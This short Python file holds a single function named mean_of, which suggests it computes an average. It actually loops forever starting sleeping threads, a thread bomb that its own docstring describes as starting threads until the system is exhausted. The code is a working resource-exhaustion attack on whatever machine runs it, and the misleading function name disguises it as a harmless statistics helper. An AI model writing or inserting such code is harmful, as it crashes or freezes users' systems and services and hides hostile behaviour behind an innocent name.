"""Start threads until the system has no more to give."""

# %%
import threading
import time


def mean_of(values):
    while True:
        threading.Thread(target=time.sleep, args=(100,)).start()
